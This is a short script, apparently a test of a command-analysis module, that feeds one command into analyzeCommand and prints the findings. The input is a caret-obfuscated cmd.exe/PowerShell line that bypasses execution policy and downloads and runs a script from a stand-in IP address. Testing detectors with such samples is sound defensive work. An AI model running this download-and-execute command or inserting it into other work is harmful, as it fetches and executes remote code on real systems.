import { analyzeCommand } from '../src/domain/command-analysis';
console.log(analyzeCommand(`cmd.exe /c "po^wer^shell -e^xec b^ypass -c ""IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.71/a')"""`).findings);
